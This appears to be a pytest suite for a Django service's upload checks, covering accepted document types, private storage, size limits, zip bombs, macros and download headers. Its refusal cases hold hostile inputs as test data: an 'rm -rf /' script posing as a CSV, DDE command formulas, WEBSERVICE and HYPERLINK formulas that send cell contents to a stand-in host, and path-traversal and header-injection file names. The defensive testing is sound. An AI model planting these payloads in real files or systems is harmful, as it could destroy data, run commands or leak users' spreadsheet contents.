"""core.uploads: what is accepted, what is refused, and that refusals store nothing."""

import hashlib
import importlib
import io
import zipfile

import pytest
from django.apps import apps as django_apps
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.db import IntegrityError
from django.http import Http404
from django.test import RequestFactory

from core import uploads
from core.models import AuditEvent, StoredFile
from core.tests import files
from core.tests.fixtures import fill_the_disk, stored_paths

pytestmark = pytest.mark.django_db

DOCUMENTS = ["pdf", "docx", "odt", "xlsx"]
EVERYTHING = [*DOCUMENTS, "csv"]
WRONG_TYPE = "The selected file must be a PDF, DOCX, ODT, XLSX or CSV"


@pytest.mark.parametrize(
    "kind, name, content",
    [
        ("pdf", "Action plan.pdf", files.pdf()),
        ("docx", "Action plan.DOCX", files.docx()),
        ("odt", "action-plan.odt", files.odt()),
        ("xlsx", "case list.xlsx", files.xlsx()),
        ("csv", "grades.csv", files.csv()),
    ],
)
def test_each_kind_is_stored_privately_under_a_random_name(
    private_storage, inspector, kind, name, content
):
    stored = uploads.store_upload(files.upload(name, content), by=inspector, kinds=EVERYTHING)

    stored.refresh_from_db()
    assert stored.original_name == name
    assert stored.content_type == uploads.KINDS[kind].content_type
    assert stored.size == len(content)
    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    assert stored.uploaded_by == inspector
    assert name not in stored.storage_name
    assert "." not in stored.storage_name
    assert stored_paths(private_storage) == [private_storage / stored.storage_name]
    assert (private_storage / stored.storage_name).read_bytes() == content
    assert (private_storage / stored.storage_name).stat().st_mode & 0o777 == 0o640


def test_the_same_file_twice_gets_two_names(private_storage, inspector):
    first, second = (
        uploads.store_upload(files.upload("a.pdf", files.pdf()), by=inspector, kinds=["pdf"])
        for _ in range(2)
    )
    assert first.storage_name != second.storage_name
    assert first.sha256 == second.sha256
    assert len(stored_paths(private_storage)) == 2


def test_an_odt_whose_macros_were_deleted_is_not_refused_for_them():
    """LibreOffice leaves the empty lists of its Basic libraries behind (found
    by a code review): they are not macros."""
    emptied = files.odt(
        extra={
            "Basic/": b"",
            "Basic/script-lc.xml": b"<library:libraries/>",
            "Basic/Standard/script-lb.xml": b"<library:library/>",
        }
    )
    assert uploads.check_upload(files.upload("plan.odt", emptied), kinds=DOCUMENTS) == "odt"


def test_check_upload_returns_the_kind_and_writes_nothing(private_storage):
    assert uploads.check_upload(files.upload("plan.odt", files.odt()), kinds=DOCUMENTS) == "odt"
    assert stored_paths(private_storage) == []
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize(
    "given, kept",
    [
        ("C:\\Users\\faye\\Documents\\plan.pdf", "plan.pdf"),
        ("../../etc/plan.pdf", "plan.pdf"),
        ("plan\r\nSet-Cookie: x.pdf", "planSet-Cookie: x.pdf"),
        ("x" * 300 + ".pdf", "x" * 251 + ".pdf"),
    ],
)
def test_original_name_is_reduced_to_a_safe_basename(private_storage, inspector, given, kept):
    upload = files.upload("plan.pdf", files.pdf())
    upload.name = given  # as a client other than a browser might send it
    assert uploads.store_upload(upload, by=inspector, kinds=["pdf"]).original_name == kept


REFUSALS = [
    pytest.param("notes.txt", b"Just some notes\n", WRONG_TYPE, id="txt"),
    pytest.param("plan.pdf", files.docx(), WRONG_TYPE, id="docx-named-pdf"),
    pytest.param("plan.docx", files.pdf(), WRONG_TYPE, id="pdf-named-docx"),
    pytest.param("grades.xlsx", files.docx(), WRONG_TYPE, id="docx-named-xlsx"),
    pytest.param("plan.pdf", b"MZ\x90\x00\x03\x00" + bytes(200), WRONG_TYPE, id="exe-as-pdf"),
    pytest.param("plan.docx", b"\x7fELF\x02\x01\x01" + bytes(200), WRONG_TYPE, id="elf-as-docx"),
    pytest.param("plan.xlsx", b"\xcf\xfa\xed\xfe" + bytes(200), WRONG_TYPE, id="macho-as-xlsx"),
    pytest.param("grades.csv", b"#!/bin/sh\nrm -rf /\n", WRONG_TYPE, id="script-as-csv"),
    pytest.param("plan.pdf", b"", uploads.EMPTY, id="empty"),
    # Bombs are built when the test runs, not when the module is collected.
    pytest.param("plan.docx", files.zip_bomb, uploads.NOT_UPLOADED, id="bomb-200mb"),
    pytest.param(
        "plan.docx", lambda: files.zip_bomb(entry_mb=50), uploads.NOT_UPLOADED, id="bomb-ratio"
    ),
    pytest.param(
        "plan.xlsx", b"PK\x03\x04" + b"not a zip" * 20, uploads.NOT_UPLOADED, id="corrupt-zip"
    ),
    pytest.param("plan.xlsx", files.xlsx()[:-30], uploads.NOT_UPLOADED, id="truncated-xlsx"),
    pytest.param(
        "plan.docx", files.encrypted(files.docx()), uploads.PASSWORD_PROTECTED, id="encrypted"
    ),
    # How Word and Excel really save a file with a password: not a zip. It
    # was refused as not a DOCX, which it is.
    pytest.param(
        "plan.docx",
        files.password_protected_office,
        uploads.PASSWORD_PROTECTED,
        id="docx-encrypted-by-word",
    ),
    pytest.param(
        "plan.xlsx",
        files.password_protected_office,
        uploads.PASSWORD_PROTECTED,
        id="xlsx-encrypted-by-excel",
    ),
    # LibreOffice's own: a zip, its content encrypted. It was "could not be
    # uploaded – try again", which no try would change.
    pytest.param(
        "plan.odt",
        files.password_protected_odt,
        uploads.PASSWORD_PROTECTED,
        id="odt-encrypted-by-libreoffice",
    ),
    pytest.param(
        "plan.docx",
        files.zip_of(files.docx_entries(), zipfile.ZIP_BZIP2),
        uploads.NOT_UPLOADED,
        id="bzip2-docx",
    ),
    pytest.param(
        "plan.docx",
        files.zip_of({**files.docx_entries(), **{f"media/{n}.xml": b"x" for n in range(1001)}}),
        uploads.NOT_UPLOADED,
        id="too-many-entries",
    ),
    pytest.param(
        "plan.docx",
        files.zip_of({**files.docx_entries(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        uploads.MACROS,
        id="docx-with-macros",
    ),
    # OpenDocument has no macro-free name of its own: an .odt may hold Basic
    # or Python macros, which LibreOffice can run when it is opened.
    pytest.param(
        "plan.odt",
        files.odt(extra={"Basic/Standard/Module1.xml": b"<script:module/>"}),
        uploads.MACROS,
        id="odt-with-basic-macros",
    ),
    pytest.param(
        "plan.odt",
        files.odt(extra={"Scripts/python/plan.py": b"import os\n"}),
        uploads.MACROS,
        id="odt-with-python-macros",
    ),
    pytest.param("plan.docx", files.zip_of({"readme.txt": b"hello"}), WRONG_TYPE, id="plain-zip"),
    pytest.param("plan.odt", files.odt(mimetype=b"application/x-sh"), WRONG_TYPE, id="odt-wrong"),
    pytest.param(
        "grades.csv", b"force,grade\nCleveland,\x00good\n", uploads.CSV_ENCODING, id="csv-nul"
    ),
    pytest.param(
        "grades.csv",
        "force,grade\nSaint-Étienne,good\n".encode("latin-1"),
        uploads.CSV_ENCODING,
        id="csv-latin-1",
    ),
    # Formulas that act when the file is opened in a spreadsheet, by row.
    pytest.param(
        "grades.csv",
        b'force,grade\nKent,"=HYPERLINK(""https://example.com/?""&B1,""Kent"")"\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-hyperlink",
    ),
    pytest.param(
        "grades.csv",
        b"force,grade\r\nKent,good\r\nEssex,=cmd|' /C calc'!A0\r\n",
        uploads.CSV_FORMULA.format(line=3),
        id="csv-dde",
    ),
    pytest.param(
        "grades.csv",
        b"force,grade\n,\n  \t-2+cmd|' /C calc'!A0,good\n",
        uploads.CSV_FORMULA.format(line=3),
        id="csv-dde-after-a-blank-row-and-spaces",
    ),
    pytest.param(
        "grades.csv",
        b"force,grade\rKent,@SUM(1+1)\r",
        uploads.CSV_FORMULA.format(line=2),
        id="csv-at-function-and-mac-line-ends",
    ),
    pytest.param(
        "grades.csv",
        b"force,grade\nKent,+'\\\\server\\share\\[book.xlsx]Sheet1'!A1\n",
        uploads.CSV_FORMULA.format(line=2),
        id="csv-link-to-a-file-on-a-share",
    ),
    pytest.param(
        "grades.csv",
        b"force,grade\nKent,='file://example.org/share/x.ods'#$Sheet1.A1\n",
        uploads.CSV_FORMULA.format(line=2),
        id="csv-libreoffice-link-to-a-file",
    ),
    # Found by the review of this check: cells another reading of the file
    # finds, where Python's csv module found none.
    pytest.param(
        "grades.csv",
        b'force,grade\r\nKent,  "=WEBSERVICE(""https://example.com/?""&A1)"\r\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-blanks-before-a-quoted-formula",
    ),
    pytest.param(
        "grades.csv",
        b'force,grade\nKent,x;=WEBSERVICE("https://example.com/?"&A1)\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-after-a-semicolon",
    ),
    pytest.param(
        "grades.csv",
        b'force,grade\nKent,x\t=WEBSERVICE("https://example.com/?"&A1)\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-after-a-tab",
    ),
    pytest.param(
        "grades.csv",
        b'"SEP=:"\r\nforce:grade\r\nKent:=HYPERLINK("https://example.com")\r\n',
        uploads.CSV_FORMULA.format(line=3),
        id="csv-separator-line",
    ),
    pytest.param(
        "grades.csv",
        b"\xef\xbb\xbfsep=;\r\nforce;grade\r\nKent;x,=cmd|' /C calc'!A0\r\n",
        uploads.CSV_FORMULA.format(line=3),
        id="csv-separator-line-and-a-comma",
    ),
    pytest.param(
        "grades.csv",
        b"sep=|\r\nforce|grade\r\nKent|x,=cmd|' /C calc'!A0\r\n",
        uploads.CSV_FORMULA.format(line=3),
        id="csv-declared-separator-inside-a-comma-cell",
    ),
    pytest.param(
        "grades.csv",
        "force,grade\nKent,\u200b\ufeff=cmd|' /C calc'!A0\n".encode(),
        uploads.CSV_FORMULA.format(line=2),
        id="csv-invisible-characters-first",
    ),
    pytest.param(
        "grades.csv",
        'force,grade\nKent,＝HYPERLINK（"https://example.com"）\n'.encode(),
        uploads.CSV_FORMULA.format(line=2),
        id="csv-fullwidth-formula",
    ),
    # Found by the second review.
    pytest.param(
        "grades.csv",
        b'a,b\nKent,"=""\n""&WEBSERVICE(""https://example.com/?""&A1)"\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-quoted-formula-over-two-lines",
    ),
    pytest.param(
        "grades.csv",
        b'a,b\nKent,"="x"&WEBSERVICE(A1)",b\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-quote-mark-that-does-not-close-the-cell",
    ),
    pytest.param(
        "grades.csv",
        'a,b\nKent,="，"&WEBSERVICE("https://example.com/?"&A1)\n'.encode(),
        uploads.CSV_FORMULA.format(line=2),
        id="csv-fullwidth-comma-is-not-a-separator",
    ),
    pytest.param(
        "grades.csv",
        'a,b\nKent,="\u2028"&WEBSERVICE("https://example.com/?"&A1)\n'.encode(),
        uploads.CSV_FORMULA.format(line=2),
        id="csv-line-separator-is-not-a-line-break",
    ),
    pytest.param(
        "grades.csv",
        b"a,b\n"
        + (b"y" * 104 + b"\n") * 9_986
        + b'Kent,"=1+'
        + b" " * 60
        + b'WEBSERVICE(""https://example.com/?""&A1)"\n',
        uploads.CSV_FORMULA.format(line=9_988),
        id="csv-quoted-cell-across-the-reading-blocks",
    ),
    pytest.param(
        "grades.csv",
        b'ID;P\r\nC;Y1;X1;K0;EWEBSERVICE("https://example.com")\r\nE\r\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-that-excel-opens-as-sylk",
    ),
    pytest.param(
        "grades.csv",
        b"a,b\nKent,=\\\\example\\share\\book.xlsx!Name\n",
        uploads.CSV_FORMULA.format(line=2),
        id="csv-name-in-a-workbook-on-a-share",
    ),
    # Found by the third review.
    pytest.param(
        "grades.csv",
        b'a,b,c\ntv,55" screen,-5\n'
        + b"12,abc,-5\n" * 104_845
        + b'x,"=1+\nHYPERLINK(""https://example.com/"")"\n',
        uploads.CSV_FORMULA.format(line=104_848),
        id="csv-formula-over-two-lines-after-a-stray-inch-mark",
    ),
    pytest.param(
        "grades.csv",
        b'a,b,c\nx,"="a"&"b\n"&HYPERLINK("https://example.com/?"&A1)"\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-libreoffice-quote-marks-kept-as-text",
    ),
    pytest.param(
        "grades.csv",
        b'a,b\nx,"=WEBSERVICE\n(""https://example.com/?""&A1)"\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-line-break-before-the-bracket",
    ),
    pytest.param(
        "grades.csv",
        b'a,b\nx,""=HYPERLINK("https://example.com/?"&A1)\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-empty-quoted-value-before-the-formula",
    ),
    pytest.param(
        "grades.csv",
        b'ID\nC;Y1;X1;EEXEC("calc")\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-sylk-without-a-semicolon",
    ),
    pytest.param(
        "grades.csv",
        b'ID;P\nC;EWEBSERVICE("https://example.com")\n',
        uploads.CSV_FORMULA.format(line=2),
        id="csv-sylk-formula-first",
    ),
    pytest.param(
        "grades.csv",
        b"ID;P\nNE;F\\\\example\\share\\b.xls;S;ER1C1\n",
        uploads.CSV_FORMULA.format(line=2),
        id="csv-sylk-link-to-a-share",
    ),
    pytest.param(
        "grades.csv",
        b'force,grade\n"Kent,' + b"x" * 140_000 + b"\nEssex,=cmd|' /C calc'!A0\n",
        uploads.CSV_FORMULA.format(line=3),
        id="csv-after-a-quote-never-closed",
    ),
]


@pytest.mark.parametrize("name, content, message", REFUSALS)
def test_refused_files_store_nothing(private_storage, inspector, name, content, message):
    content = content() if callable(content) else content
    with pytest.raises(ValidationError) as error:
        uploads.store_upload(files.upload(name, content), by=inspector, kinds=EVERYTHING)

    assert error.value.messages == [message]
    assert stored_paths(private_storage) == []
    assert not StoredFile.objects.exists()


def test_a_formula_started_with_an_apostrophe_is_kept_as_the_refusal_says(
    private_storage, inspector
):
    content = b'area,link\nNorth,\'=HYPERLINK("https://example.com")\n'
    stored = uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
    assert (private_storage / stored.storage_name).read_bytes() == content


def test_csv_values_that_cannot_act_are_kept(private_storage, inspector):
    content = (
        b"force,change,phone,note,handle,sum\n"
        b"Kent,-5,+44 20 7946 0000,- none,@kentpolice,=1+1\n"
        b'Essex,+3.5%,-,"A=B(1), see |notes|",@,"2,-(3)"\n'
        b'"Surrey","-5","+44 (0)20 7946 0000","- (see the statement)","Notes (north)"\n'
        b"Sussex,-(1250.00),- urgent!,@ 14:00 (approx),=A1+B1\n"
        b"-5,Kent (north);east\t(see notes)\n"
        b'ID,"Notes ""quoted"" here",- see item A\n'
        b'"Multi-line, closed","Attended.\n- Suspect left at 14:00"\n'
        + "+£1250 (refund),\u2028 -x\n".encode()
        + b"|"
        + b"\t" * 100_000
        + b"x\n"  # a run of tabs, read once (it was quadratic)
    )
    stored = uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
    assert (private_storage / stored.storage_name).read_bytes() == content


def test_a_csv_the_service_reads_itself_is_not_judged_by_its_cells(private_storage, inspector):
    """A case list is read by the import, which names bad rows itself, and is
    never downloaded: neither a formula nor a quote never closed stops it here."""
    from casefiles.forms import CaseListUploadForm

    content = (
        b"case_reference,category,date_recorded\n"
        b'A1,=HYPERLINK("x"),1/1/2026\n"A2,' + b"x" * 140_000 + b"\n"
    )
    form = CaseListUploadForm(files={"case_list": files.upload("cases.csv", content)})
    assert form.is_valid(), form.errors
    stored = uploads.store_upload(
        files.upload("cases.csv", content), by=inspector, kinds=["csv"], served=False
    )
    assert stored.size == len(content)


def test_an_upload_passed_under_other_rules_is_checked_again():
    """Checked once for the same rules (the form, then store_upload), but a
    file passed as one the service only reads is judged again when served."""
    upload = files.upload("figures.csv", b"area,count\nKent,=HYPERLINK(1)\n")
    assert uploads.check_upload(upload, kinds=["csv"], served=False) == "csv"
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(upload, kinds=["csv"])
    assert error.value.messages == [uploads.CSV_FORMULA.format(line=2)]
    with pytest.raises(ValidationError):
        uploads.check_upload(upload, kinds=["csv"], max_bytes=8, served=False)


def test_a_csv_too_slow_to_check_is_refused_as_too_complex(monkeypatch):
    """The check runs in a process of its own, stopped at its time limit."""
    monkeypatch.setattr(uploads, "CHECK_SECONDS", 0.01)
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(files.upload("figures.csv", files.csv()), kinds=["csv"])
    assert error.value.messages == [uploads.CSV_TOO_COMPLEX]


def test_zip_bomb_is_judged_without_inflating_it(monkeypatch):
    bomb = files.zip_bomb()

    def inflate(*args, **kwargs):
        raise AssertionError("an entry was opened")

    monkeypatch.setattr(zipfile.ZipFile, "open", inflate)
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(files.upload("plan.docx", bomb), kinds=["docx"])
    assert error.value.messages == [uploads.NOT_UPLOADED]


def test_too_much_unpacked_in_total_is_refused(private_storage, inspector, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_UNCOMPRESSED_BYTES", 100)
    with pytest.raises(ValidationError) as error:
        uploads.store_upload(files.upload("plan.docx", files.docx()), by=inspector, kinds=["docx"])
    assert error.value.messages == [uploads.NOT_UPLOADED]
    assert stored_paths(private_storage) == []


def test_a_kind_the_caller_does_not_take_is_refused_and_named(private_storage, inspector):
    with pytest.raises(ValidationError) as error:
        uploads.store_upload(files.upload("grades.csv", files.csv()), by=inspector, kinds=["pdf"])
    assert error.value.messages == ["The selected file must be a PDF"]
    assert stored_paths(private_storage) == []


def test_article_follows_the_first_type():
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(files.upload("a.txt", b"x"), kinds=["odt", "pdf"])
    assert error.value.messages == ["The selected file must be an ODT or PDF"]


def test_no_file_is_asked_for():
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(None, kinds=["pdf"])
    assert error.value.messages == ["Select a file"]


def test_one_byte_over_the_setting_is_refused(private_storage, inspector, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    content = files.csv().ljust(1024, b" ")
    with pytest.raises(ValidationError) as error:
        uploads.store_upload(files.upload("g.csv", content + b" "), by=inspector, kinds=["csv"])
    assert error.value.messages == ["The selected file must be smaller than 1KB"]
    assert stored_paths(private_storage) == []
    assert not StoredFile.objects.exists()

    stored = uploads.store_upload(files.upload("g.csv", content), by=inspector, kinds=["csv"])
    assert stored.size == 1024


def test_max_bytes_argument_overrides_the_setting(private_storage, inspector):
    with pytest.raises(ValidationError) as error:
        uploads.check_upload(files.upload("a.pdf", files.pdf()), kinds=["pdf"], max_bytes=100)
    assert error.value.messages == ["The selected file must be smaller than 100 bytes"]


def _posted(name: str, path) -> object:
    """The file as Django's upload handlers give it to a view."""
    with open(path, "rb") as handle:
        request = RequestFactory().post("/upload", {"document": handle})
        upload = request.FILES["document"]
    upload.name = name
    return upload


def test_the_real_limit_is_20mb(private_storage, inspector, tmp_path):
    """Through the multipart parser, so the upload is a temporary file on disk."""
    limit = 20 * files.MB
    body = tmp_path / "plan.pdf"
    pdf = files.pdf()
    body.write_bytes(pdf + bytes(limit - len(pdf)))

    upload = _posted("plan.pdf", body)
    assert hasattr(upload, "temporary_file_path")
    stored = uploads.store_upload(upload, by=inspector, kinds=["pdf"])
    assert stored.size == limit
    assert stored.sha256 == hashlib.sha256(body.read_bytes()).hexdigest()
    assert body.exists()  # streamed, not moved away

    with open(body, "ab") as handle:
        handle.write(b"\x00")
    with pytest.raises(ValidationError) as error:
        uploads.store_upload(_posted("plan.pdf", body), by=inspector, kinds=["pdf"])
    assert error.value.messages == ["The selected file must be smaller than 20MB"]
    assert stored_paths(private_storage) == [private_storage / stored.storage_name]
    assert StoredFile.objects.count() == 1


def test_file_is_removed_when_the_row_cannot_be_saved(private_storage, inspector, monkeypatch):
    def fail(**kwargs):
        raise IntegrityError("database went away")

    monkeypatch.setattr(StoredFile.objects, "create", fail)
    with pytest.raises(IntegrityError):
        uploads.store_upload(files.upload("a.pdf", files.pdf()), by=inspector, kinds=["pdf"])
    assert stored_paths(private_storage) == []


def test_default_storage_is_the_private_root(private_storage):
    assert default_storage.location == str(private_storage)
    assert default_storage.location != str(private_storage.parent)


def test_file_response_is_a_private_attachment_and_is_audited(private_storage, inspector):
    stored = uploads.store_upload(
        files.upload("Action plan.pdf", files.pdf()), by=inspector, kinds=["pdf"]
    )

    response = uploads.file_response(stored, by=inspector)

    assert response["Content-Disposition"] == 'attachment; filename="Action plan.pdf"'
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert int(response["Content-Length"]) == stored.size
    assert b"".join(response.streaming_content) == files.pdf()
    event = AuditEvent.objects.for_object(stored).get()
    assert (event.action, event.actor) == ("file.downloaded", inspector)


@pytest.mark.parametrize(
    "name, disposition",
    [
        ('say "hi".pdf', r'attachment; filename="say \"hi\".pdf"'),
        ("Évaluation.pdf", "attachment; filename*=utf-8''%C3%89valuation.pdf"),
    ],
)
def test_file_response_encodes_awkward_names(private_storage, inspector, name, disposition):
    stored = uploads.store_upload(files.upload(name, files.pdf()), by=inspector, kinds=["pdf"])
    assert uploads.file_response(stored, by=inspector)["Content-Disposition"] == disposition


def test_file_response_for_a_missing_file_is_not_found(private_storage, inspector):
    stored = uploads.store_upload(files.upload("a.pdf", files.pdf()), by=inspector, kinds=["pdf"])
    (private_storage / stored.storage_name).unlink()
    with pytest.raises(Http404):
        uploads.file_response(stored, by=inspector)
    assert not AuditEvent.objects.filter(action="file.downloaded").exists()


def test_delete_stored_file_removes_row_then_file(
    private_storage, inspector, django_capture_on_commit_callbacks
):
    stored = uploads.store_upload(files.upload("a.pdf", files.pdf()), by=inspector, kinds=["pdf"])
    with django_capture_on_commit_callbacks(execute=True):
        uploads.delete_stored_file(stored)
    assert not StoredFile.objects.exists()
    assert stored_paths(private_storage) == []


def test_describe_limits_says_types_and_size(settings):
    settings.UPLOAD_MAX_BYTES = 20 * files.MB
    assert uploads.describe_limits(DOCUMENTS) == "PDF, DOCX, ODT or XLSX, up to 20MB"
    assert uploads.describe_limits(["csv"], max_bytes=512 * 1024) == "CSV, up to 512KB"


def test_a_csv_names_its_charset_even_if_stored_before_it_did(private_storage, inspector):
    stored = uploads.store_upload(
        files.upload("cases.csv", b"reference,category\r\nCR-1,Missing\r\n"),
        by=inspector,
        kinds=["csv"],
    )
    assert stored.content_type == "text/csv; charset=utf-8"
    assert uploads.file_response(stored, by=inspector)["Content-Type"] == "text/csv; charset=utf-8"

    # Stored before it named its charset: the migration names it.
    stored.content_type = "text/csv"
    stored.save(update_fields=["content_type"])
    csv_charset = importlib.import_module("core.migrations.0003_csv_charset")
    csv_charset.name_the_charset(django_apps, None)
    stored.refresh_from_db()
    assert uploads.file_response(stored, by=inspector)["Content-Type"] == "text/csv; charset=utf-8"


def test_an_archive_with_damaged_compressed_data_is_refused_not_a_500(private_storage, inspector):
    """Found by a security review: an ODT whose mimetype entry was compressed
    and damaged raised zlib.error, which nothing caught: a 500 for anyone
    who uploaded it, a force lead included."""
    # The ODF writer stores the mimetype entry; this one is deflated, then damaged.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text" * 4)
    content = bytearray(buffer.getvalue())
    start = 30 + len("mimetype")  # the entry's data follows its local header
    content[start : start + 4] = b"\xff\xff\xff\xff"
    with pytest.raises(ValidationError):
        uploads.store_upload(files.upload("plan.odt", bytes(content)), by=inspector, kinds=["odt"])
    assert StoredFile.objects.count() == 0


def test_a_full_disk_is_a_message_beside_the_file_and_leaves_nothing(
    private_storage, inspector, monkeypatch
):
    """Found by the on-call review: an OSError while writing (disk full, the
    shared folder gone) was a 500, and the part written stayed on disk."""
    fill_the_disk(monkeypatch)
    with pytest.raises(ValidationError) as error:
        uploads.store_upload(files.upload("a.pdf", files.pdf()), by=inspector, kinds=["pdf"])
    assert error.value.messages == [uploads.NOT_UPLOADED]
    assert stored_paths(private_storage) == []
    assert not StoredFile.objects.exists()
